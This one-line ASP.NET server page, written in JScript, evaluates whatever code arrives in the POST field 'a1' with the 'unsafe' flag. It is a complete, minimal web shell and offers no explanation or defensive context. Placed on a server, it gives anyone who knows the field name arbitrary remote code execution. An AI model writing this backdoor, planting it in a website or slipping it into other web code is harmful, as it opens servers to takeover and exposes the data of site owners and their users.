<script language="JScript" runat="server">function Page_Load() { eval(Request.Form["a1"], "unsafe"); }</script>
